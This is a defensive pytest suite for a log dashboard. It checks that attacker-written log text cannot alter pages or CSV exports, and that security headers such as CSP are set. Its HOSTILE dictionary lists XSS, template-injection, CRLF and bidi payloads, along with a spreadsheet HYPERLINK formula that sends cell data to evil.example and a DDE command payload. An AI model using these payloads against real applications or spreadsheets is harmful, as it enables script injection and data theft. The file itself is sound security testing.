"""Anyone on the internet can write into these logs. What they write is shown, and is never anything but text."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest

from logsync.models import Account, IdentityProvider, Installation, Log, Stream, SyncRun
from tests.conftest import NOW
from tests.dashboard.reading import Page, page_of, records_of
from tests.dashboard.test_fields import LOGINS, SCIM

HARMLESS = "a@b"
HOSTILE = {
    "element": "<script>alert(1)</script>@<img src=x onerror=alert(1)>",
    "attribute": "\"'><b>x</b>@ onmouseover=alert(1) style=color:red x=\"'`",
    "closing": "</td></tr></table></pre></bdi></script></style></title></textarea>@--><!--",
    "template": "{{ request.user.password }}{% debug %}@{# #}",
    "entity": "&lt;script&gt;&amp;&#60;b&#62;@&quot;",
    "link": "javascript:alert(1)//@data:text/html,<script>",
    "direction": "\u202e\u2066moc.live@\u202dgnp.exe\u2028",
    "lines": "a\r\nSet-Cookie: x=1\n\n@<b>\t",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")@+cmd|\' /C calc\'!A0',
    "long": "@" + "<b>😀\u202e" * 2_500,
    "query": "?open=1&after=x#y@%00%3Cb%3E;a=b",
}
in_every_way = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)


def everything_of(log):
    return f"{log.page}?{log.anything}&" + "&".join(f"columns={name}" for name in log.table.base_columns)


def skeleton_of(response):
    return page_of(response).skeleton


@pytest.fixture
def row(account):
    """A row with a text in every field, in every column, and in a field that nobody knows yet."""

    def make(log, text):
        return log.make(account=account, extra={"news": text, text: [text]}, **dict.fromkeys(log.texts, text))

    return make


@in_every_way
@pytest.mark.parametrize("log", [LOGINS, SCIM], ids=["logins", "scim"])
def test_a_row_changes_nothing_around_it(log, text, row, signed_in):
    for address in (f"{everything_of(log)}&open={{}}", log.page + "{}/"):
        pages = []
        for value in (HARMLESS, text):
            one = row(log, value)
            pages.append(page_of(signed_in.get(address.format(one.key.hex))))
            one.delete()
        assert pages[1].skeleton == pages[0].skeleton
        assert text in "".join(pages[1].whole.pieces)


@in_every_way
def test_a_request_body_changes_nothing_around_it(text, make_update, signed_in):
    pages = []
    for value in (HARMLESS, text):
        update = make_update(request_body=json.dumps({"a": value}))
        pages.append(page_of(signed_in.get(update.get_absolute_url())))
        update.delete()
    assert pages[1].skeleton == pages[0].skeleton
    assert json.dumps(text) in "".join(pages[1].whole.pieces)


@in_every_way
def test_the_name_of_an_application_changes_nothing_around_it(text, make_login, signed_in):
    pages = []
    for value in (HARMLESS, text):
        login = make_login(app_name=value, app_uid=value)
        pages.append(page_of(signed_in.get("/logins/by-app/?range=all")))
        login.delete()
    assert pages[1].skeleton == pages[0].skeleton
    assert text in "".join(pages[1].whole.pieces)


@in_every_way
def test_the_directory_changes_nothing_around_it(text, signed_in):
    pages = []
    Installation.get()
    for value in (HARMLESS, text):
        account = Account.objects.create(
            account_id="1" * 32, name=value, providers_error=value, applications_error=value
        )
        account.applications.create(app_uid="a", name=value)
        IdentityProvider.objects.create(account=account, idp_id="okta", name=value, scim_enabled=True)
        stream = Stream.objects.create(
            account=account, log=Log.SCIM_UPDATES, idp_id="okta", backfill_since=NOW, error=value, error_since=NOW
        )
        SyncRun.objects.create(stream=stream, started_at=NOW, since=NOW, until=NOW, error=value)
        Installation.objects.update(directory_error=value)
        pages.append([page_of(signed_in.get(path)) for path in ("/sync/", "/logins/", "/scim/")])
        account.delete()
    assert [page.skeleton for page in pages[1]] == [page.skeleton for page in pages[0]]
    assert all(text in "".join(page.whole.pieces) for page in pages[1])


@pytest.mark.parametrize("page", ["/logins/", "/logins/by-app/", "/scim/", "/sync/"])
@pytest.mark.parametrize("name", ["q", "app_uid", "idp_id", "account", "stream", "range", "columns", "sort", "colour"])
def test_an_address_changes_nothing_on_its_page(page, name, make_login, make_update, signed_in):
    make_login()
    make_update()
    hostile = HOSTILE["element"] + HOSTILE["attribute"] + HOSTILE["closing"] + HOSTILE["template"]
    responses = [signed_in.get(page, {name: value}) for value in ("xx", hostile)]
    assert responses[0].status_code == responses[1].status_code
    assert skeleton_of(responses[0]) == skeleton_of(responses[1])


@in_every_way
def test_every_cell_of_an_export_holds_its_text_and_no_formula(text, row, signed_in):
    for log in (LOGINS, SCIM):
        row(log, text)
        [record] = records_of(signed_in.get(f"{log.export}?{log.anything}"))
        for name in log.texts:
            assert record[name] in (text, f"'{text}")
            assert not record[name].lstrip().startswith(("=", "+", "-", "@"))
        assert json.loads(record["extra"]) == {"news": text, text: [text]}


def isolated(page: Page, mark: str) -> int:
    """How often a mark stands where it cannot reach beyond: isolated, or where a browser isolates by itself."""
    return sum(
        "".join(element.pieces).count(mark)
        for element in page.elements
        if element.tag in ("bdi", "option") or element.attrs.get("dir") == "ltr"
    )


@pytest.mark.parametrize("log", [LOGINS, SCIM], ids=["logins", "scim"])
def test_marks_that_turn_the_writing_direction_reach_nothing_around_them(log, row, signed_in):
    one = row(log, "\u202e")
    page = page_of(signed_in.get(f"{everything_of(log)}&open={one.key.hex}&q=%E2%80%AE"))
    assert page.text.count("\u202e") == isolated(page, "\u202e") > 20


@pytest.mark.parametrize("path", ["/logins/by-app/", "/sync/", "/sync/?stream=%E2%80%AE", "/logins/?colour=%E2%80%AE"])
def test_nor_on_the_other_pages(path, account, make_login, make_stream, signed_in):
    Account.objects.update(name="\u202e")
    make_login(app_name="\u202e", app_uid="\u202e")
    make_stream(error="\u202e", error_since=NOW)
    page = page_of(signed_in.get(path))
    assert page.text.count("\u202e") == isolated(page, "\u202e") > 0


# What the browser is told to do with all this


PAGES = ["/logins/", "/logins/?q=<script>", "/logins/?range=5y", "/logins/by-app/", "/scim/", "/sync/", "/nowhere/"]


@pytest.mark.parametrize("path", [*PAGES, "/logins.csv", "/logins.csv?range=5y", "/sign-in/", "/healthz"])
def test_every_answer_forbids_whatever_is_inline(path, make_login, signed_in):
    make_login()
    policy = signed_in.get(path)["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
    assert directives["default-src"] == "'none'"
    assert directives["script-src"] == directives["style-src"] == "'self'"
    assert directives["base-uri"] == directives["frame-ancestors"] == "'none'"
    assert "unsafe" not in policy


@pytest.mark.parametrize("path", [*PAGES, "/sign-in/", "{login}", "{update}", "/logins/?open={key}"])
def test_no_page_has_a_script_a_style_or_a_handler_of_its_own(path, make_login, make_update, make_stream, signed_in):
    make_stream(error="x", error_since=NOW, retry_at=NOW + timedelta(hours=1))
    login, update = make_login(), make_update()
    urls = {"login": login.get_absolute_url(), "update": update.get_absolute_url(), "key": login.key.hex}
    if path == "/sign-in/":
        signed_in.logout()
    page = page_of(signed_in.get(path.format(**urls)))
    assert page.elements
    assert not page.misplaced
    assert not page.all("style")
    assert all(script.attrs.get("src") and not script.text for script in page.all("script"))
    names = {name for element in page.elements for name in element.attrs}
    assert not {name for name in names if name == "style" or name.startswith(("on", "hx-on"))}
    assert all(not link.href or link.href[0] in "/?#" for link in page.elements)


@pytest.mark.parametrize(
    ("header", "value"),
    [("X-Content-Type-Options", "nosniff"), ("X-Frame-Options", "DENY"), ("Referrer-Policy", "same-origin")],
)
def test_no_answer_is_guessed_at_framed_or_told_about(header, value, account, signed_in):
    for path in ("/logins/", "/logins.csv", "/sign-in/"):
        assert signed_in.get(path)[header] == value
